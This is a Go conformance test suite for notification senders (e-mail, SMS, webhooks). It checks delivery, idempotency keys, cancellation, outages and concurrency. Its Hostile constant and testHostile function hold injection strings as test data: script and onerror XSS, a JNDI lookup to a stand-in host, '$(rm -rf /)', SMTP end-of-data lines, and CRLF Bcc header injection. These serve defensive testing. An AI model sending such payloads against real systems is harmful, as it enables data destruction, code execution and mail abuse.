// Package sendertest is the conformance suite every notify.Sender passes.
//
// A channel package wires its Sender to a real receiver of that channel
// running in the test process (an SMTP server, an HTTP endpoint, …) through
// a Harness, and calls Run:
//
//	func TestConformance(t *testing.T) {
//		sendertest.Run(t, sendertest.Harness{
//			Channel:      notify.Email,
//			Capabilities: sendertest.Capabilities{Subject: true, HTML: true, Key: true},
//			Start:        startReceiver,
//			Down:         senderToNowhere,
//		})
//	}
//
// Run checks what every channel must do — the message arrives with the
// right recipient and text, a cancelled context is honoured, a receiver that
// is down yields a retryable error, concurrent sends each arrive exactly
// once, hostile content arrives as data — and, for what the Capabilities
// claim, that the subject, the HTML part and the idempotency key are
// carried too.
package sendertest

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/heraldhq/herald/notify"
)

// Capabilities says what a channel can carry; Run checks exactly what is
// claimed and skips the rest.
type Capabilities struct {
	// Subject: the receiver sees Message.Subject (e-mail, a JSON webhook
	// body).
	Subject bool
	// HTML: the receiver sees Message.HTML as its own part.
	HTML bool
	// Key: the receiver sees an identifier derived from Message.Key that is
	// stable across resends (a webhook-id, a Message-ID).
	Key bool
	// Delivered: a successful Send reports Receipt.Delivered, because the
	// receiver's answer confirms delivery rather than acceptance.
	Delivered bool
	// ProviderID: a successful Send reports the provider's id for the
	// message in Receipt.ProviderID.
	ProviderID bool
}

// Received is one message as the receiver saw it, decoded back into the
// terms of notify.Message. Line endings are compared after CRLF → LF.
type Received struct {
	// To is the recipient as the receiver saw it, in the form of
	// Message.To (the envelope recipient, the URL posted to, the number).
	To string
	// Subject is the decoded subject, when the channel carries one.
	Subject string
	// Text is the decoded plain-text body.
	Text string
	// HTML is the decoded HTML part, when the channel carries one.
	HTML string
	// Key is the idempotency identifier the receiver saw (see
	// Harness.KeyOf), when the channel carries one.
	Key string
}

// Target is a sender and a recipient address it can be asked to send to.
type Target struct {
	Sender notify.Sender
	To     string
}

// Env is a sender wired to a live receiver.
type Env struct {
	// Sender delivers to the receiver.
	Sender notify.Sender
	// To returns a valid, distinct recipient address on the receiver for
	// each i.
	To func(i int) string
	// Received returns what the receiver has accepted so far, in arrival
	// order. A receiver records a message before it acknowledges it, so
	// after Send returns nil the message is already there.
	Received func() []Received
}

// Harness wires a channel's Sender into the suite.
type Harness struct {
	// Channel is the channel the Sender must report (notify.Email, …).
	Channel string
	// Capabilities says what the channel carries.
	Capabilities Capabilities
	// Start starts a receiver in the test process and returns a sender
	// wired to it. It stops both with t.Cleanup.
	Start func(t *testing.T) Env
	// Down returns a sender wired to an address where no receiver listens
	// (a closed port on loopback), releasing it with t.Cleanup.
	Down func(t *testing.T) Target
	// Stalled, when set, returns a sender wired to a receiver that accepts
	// the connection and never answers; the sender's own timeouts must be
	// far longer than a second, so only the context can end the Send.
	Stalled func(t *testing.T) Target
	// InvalidTo, when set, is an address the sender must refuse with
	// notify.ErrPermanent before sending anything.
	InvalidTo string
	// Prepare, when set, completes every message the suite sends with
	// channel-specific fields (a webhook's signing secret, say).
	Prepare func(m *notify.Message)
	// KeyOf maps a Message.Key to the Received.Key the receiver sees; nil
	// means the key itself.
	KeyOf func(key string) string
}

// Concurrency is how many goroutines the concurrency subtest sends from.
const Concurrency = 50

// Run runs the conformance suite against h as subtests of t.
func Run(t *testing.T, h Harness) {
	t.Helper()
	if h.Start == nil || h.Down == nil || h.Channel == "" {
		t.Fatal("sendertest: Harness needs Channel, Start and Down")
	}
	t.Run("Identity", func(t *testing.T) { testIdentity(t, h) })
	t.Run("Delivers", func(t *testing.T) { testDelivers(t, h) })
	t.Run("Key", func(t *testing.T) { testKey(t, h) })
	t.Run("CancelledContext", func(t *testing.T) { testCancelled(t, h) })
	t.Run("Stalled", func(t *testing.T) { testStalled(t, h) })
	t.Run("ReceiverDown", func(t *testing.T) { testDown(t, h) })
	t.Run("InvalidRecipient", func(t *testing.T) { testInvalidTo(t, h) })
	t.Run("Concurrent", func(t *testing.T) { testConcurrent(t, h) })
	t.Run("HostileContent", func(t *testing.T) { testHostile(t, h) })
}

func ctxFor(t *testing.T) context.Context {
	ctx, cancel := context.WithTimeout(t.Context(), 30*time.Second)
	t.Cleanup(cancel)
	return ctx
}

func message(h Harness, env Env, i int, text string) notify.Message {
	m := notify.Message{
		Key:       fmt.Sprintf("evt-%d/user-%d/%s", i, i, h.Channel),
		Channel:   h.Channel,
		To:        env.To(i),
		Subject:   fmt.Sprintf("Subject %d", i),
		Text:      text,
		EventID:   fmt.Sprintf("evt-%d", i),
		EventType: "sendertest.ping",
	}
	if h.Capabilities.HTML {
		m.HTML = "<p>" + text + "</p>"
	}
	h.prepare(&m)
	return m
}

func (h Harness) prepare(m *notify.Message) {
	if h.Prepare != nil {
		h.Prepare(m)
	}
}

func (h Harness) keyOf(k string) string {
	if h.KeyOf == nil {
		return k
	}
	return h.KeyOf(k)
}

func normalize(s string) string { return strings.ReplaceAll(s, "\r\n", "\n") }

func withText(rs []Received, text string) []Received {
	var out []Received
	for _, r := range rs {
		if normalize(r.Text) == normalize(text) {
			out = append(out, r)
		}
	}
	return out
}

func checkReceipt(t *testing.T, h Harness, s notify.Sender, rc notify.Receipt) {
	t.Helper()
	if rc.Provider != s.Name() {
		t.Errorf("Receipt.Provider = %q, want the sender's Name %q", rc.Provider, s.Name())
	}
	if h.Capabilities.Delivered && !rc.Delivered {
		t.Errorf("Receipt.Delivered = false, want true: the channel confirms delivery")
	}
	if !h.Capabilities.Delivered && rc.Delivered {
		t.Errorf("Receipt.Delivered = true for a channel that only confirms acceptance")
	}
	if h.Capabilities.ProviderID && rc.ProviderID == "" {
		t.Errorf("Receipt.ProviderID is empty, want the provider's id")
	}
}

func checkMessage(t *testing.T, h Harness, got Received, m notify.Message) {
	t.Helper()
	if got.To != m.To {
		t.Errorf("recipient = %q, want %q", got.To, m.To)
	}
	if normalize(got.Text) != normalize(m.Text) {
		t.Errorf("text = %q, want %q", got.Text, m.Text)
	}
	if h.Capabilities.Subject && got.Subject != m.Subject {
		t.Errorf("subject = %q, want %q", got.Subject, m.Subject)
	}
	if h.Capabilities.HTML && normalize(got.HTML) != normalize(m.HTML) {
		t.Errorf("html = %q, want %q", got.HTML, m.HTML)
	}
	if h.Capabilities.Key && got.Key != h.keyOf(m.Key) {
		t.Errorf("key = %q, want %q", got.Key, h.keyOf(m.Key))
	}
}

func testIdentity(t *testing.T, h Harness) {
	env := h.Start(t)
	s := env.Sender
	if s.Name() == "" {
		t.Error("Name() is empty")
	}
	if s.Channel() != h.Channel {
		t.Errorf("Channel() = %q, want %q", s.Channel(), h.Channel)
	}
	known := []string{notify.Email, notify.SMS, notify.Push, notify.Chat, notify.Webhook}
	if !slices.Contains(known, s.Channel()) {
		t.Errorf("Channel() = %q is not one of notify's channels %v", s.Channel(), known)
	}
}

func testDelivers(t *testing.T, h Harness) {
	env := h.Start(t)
	m := message(h, env, 1, "Hello from the sender conformance suite.\nSecond line.")
	rc, err := env.Sender.Send(ctxFor(t), m)
	if err != nil {
		t.Fatalf("Send: %v", err)
	}
	checkReceipt(t, h, env.Sender, rc)
	got := env.Received()
	if len(got) != 1 {
		t.Fatalf("receiver got %d messages, want 1: %+v", len(got), got)
	}
	checkMessage(t, h, got[0], m)
	if !h.Capabilities.HTML && got[0].HTML != "" {
		t.Errorf("html = %q for a channel without an HTML part", got[0].HTML)
	}
}

func testKey(t *testing.T, h Harness) {
	if !h.Capabilities.Key {
		t.Skip("the channel does not carry an idempotency key")
	}
	env := h.Start(t)
	ctx := ctxFor(t)
	first := message(h, env, 2, "first send")
	resend := first
	resend.Text = "resend"
	other := message(h, env, 3, "another key")
	for _, m := range []notify.Message{first, resend, other} {
		if _, err := env.Sender.Send(ctx, m); err != nil {
			t.Fatalf("Send(%q): %v", m.Text, err)
		}
	}
	a, b, c := withText(env.Received(), first.Text), withText(env.Received(), resend.Text), withText(env.Received(), other.Text)
	if len(a) != 1 || len(b) != 1 || len(c) != 1 {
		t.Fatalf("received %d/%d/%d copies, want 1/1/1", len(a), len(b), len(c))
	}
	if a[0].Key == "" || a[0].Key != h.keyOf(first.Key) {
		t.Errorf("key = %q, want %q", a[0].Key, h.keyOf(first.Key))
	}
	if b[0].Key != a[0].Key {
		t.Errorf("a resend carries key %q, the first send %q: it must be stable", b[0].Key, a[0].Key)
	}
	if c[0].Key == a[0].Key {
		t.Errorf("two keys map to the same identifier %q", c[0].Key)
	}
}

func testCancelled(t *testing.T, h Harness) {
	env := h.Start(t)
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	m := message(h, env, 4, "must not arrive")
	_, err := env.Sender.Send(ctx, m)
	if err == nil {
		t.Fatal("Send with a cancelled context succeeded")
	}
	if !errors.Is(err, context.Canceled) {
		t.Errorf("Send = %v, want an error wrapping context.Canceled", err)
	}
	if errors.Is(err, notify.ErrPermanent) {
		t.Errorf("a cancelled Send is permanent: %v", err)
	}
	if got := env.Received(); len(got) != 0 {
		t.Errorf("receiver got %d messages after a cancelled Send", len(got))
	}
	// The sender is still usable afterwards.
	ok := message(h, env, 5, "after the cancellation")
	if _, err := env.Sender.Send(ctxFor(t), ok); err != nil {
		t.Fatalf("Send after a cancelled Send: %v", err)
	}
}

func testStalled(t *testing.T, h Harness) {
	if h.Stalled == nil {
		t.Skip("the harness has no stalled receiver")
	}
	tg := h.Stalled(t)
	ctx, cancel := context.WithTimeout(t.Context(), 200*time.Millisecond)
	defer cancel()
	done := make(chan error, 1)
	go func() {
		m := notify.Message{Key: "stalled", Channel: h.Channel, To: tg.To, Subject: "s", Text: "stalled"}
		h.prepare(&m)
		_, err := tg.Sender.Send(ctx, m)
		done <- err
	}()
	select {
	case err := <-done:
		if err == nil {
			t.Fatal("Send to a receiver that never answers succeeded")
		}
		if !errors.Is(err, context.DeadlineExceeded) {
			t.Errorf("Send = %v, want an error wrapping context.DeadlineExceeded", err)
		}
		if errors.Is(err, notify.ErrPermanent) {
			t.Errorf("a timed-out Send is permanent: %v", err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("Send did not return after its context expired")
	}
}

func testDown(t *testing.T, h Harness) {
	tg := h.Down(t)
	m := notify.Message{Key: "down", Channel: h.Channel, To: tg.To, Subject: "s", Text: "down"}
	h.prepare(&m)
	_, err := tg.Sender.Send(ctxFor(t), m)
	if err == nil {
		t.Fatal("Send to a receiver that is down succeeded")
	}
	if errors.Is(err, notify.ErrPermanent) {
		t.Errorf("Send to a receiver that is down = %v: permanent, want retryable", err)
	}
}

func testInvalidTo(t *testing.T, h Harness) {
	if h.InvalidTo == "" {
		t.Skip("the harness names no invalid address")
	}
	env := h.Start(t)
	m := message(h, env, 6, "to nobody")
	m.To = h.InvalidTo
	_, err := env.Sender.Send(ctxFor(t), m)
	if !errors.Is(err, notify.ErrPermanent) {
		t.Errorf("Send to %q = %v, want notify.ErrPermanent", h.InvalidTo, err)
	}
	if got := env.Received(); len(got) != 0 {
		t.Errorf("receiver got %d messages for an invalid address", len(got))
	}
}

func testConcurrent(t *testing.T, h Harness) {
	env := h.Start(t)
	ctx := ctxFor(t)
	msgs := make([]notify.Message, Concurrency)
	for i := range msgs {
		msgs[i] = message(h, env, 100+i, fmt.Sprintf("concurrent message %d", i))
	}
	var wg sync.WaitGroup
	errs := make([]error, len(msgs))
	for i := range msgs {
		wg.Go(func() {
			_, errs[i] = env.Sender.Send(ctx, msgs[i])
		})
	}
	wg.Wait()
	if err := errors.Join(errs...); err != nil {
		t.Fatalf("concurrent Sends: %v", err)
	}
	got := env.Received()
	if len(got) != len(msgs) {
		t.Errorf("receiver got %d messages, want %d", len(got), len(msgs))
	}
	for _, m := range msgs {
		copies := withText(got, m.Text)
		if len(copies) != 1 {
			t.Errorf("%q arrived %d times, want once", m.Text, len(copies))
			continue
		}
		checkMessage(t, h, copies[0], m)
	}
}

// Hostile is text a sender must deliver as data: markup, template and
// shell syntax, an SMTP end-of-data line, header and JSON injection, and
// non-ASCII text.
const Hostile = "<script>alert('x')</script> & <b>bold</b> <!channel> <@U123>\n" +
	".\n" +
	"..\n" +
	"QUIT\n" +
	"{{.Secret}} ${jndi:ldap://example.test/a} $(rm -rf /) `id`\n" +
	"\"},\"injected\":true,{\"\n" +
	"Bcc: victim@example.test\n" +
	"ünïcødé ✓ 日本語 — \u00a0tab\there\n" +
	"=?utf-8?q?not_an_encoded_word?= %41%42 &amp; &lt;"

func testHostile(t *testing.T, h Harness) {
	env := h.Start(t)
	m := message(h, env, 7, Hostile)
	if h.Capabilities.Subject {
		m.Subject = "<b>Hi</b> & \"you\" ✓\r\nBcc: victim@example.test"
	}
	if h.Capabilities.HTML {
		m.HTML = "<p>Hello</p><script>alert(1)</script>\n.\n<img src=x onerror=alert(2)>"
	}
	rc, err := env.Sender.Send(ctxFor(t), m)
	if err != nil {
		t.Fatalf("Send: %v", err)
	}
	checkReceipt(t, h, env.Sender, rc)
	got := env.Received()
	if len(got) != 1 {
		t.Fatalf("receiver got %d messages, want exactly 1 (an injection split or duplicated it)", len(got))
	}
	checkMessage(t, h, got[0], m)
}
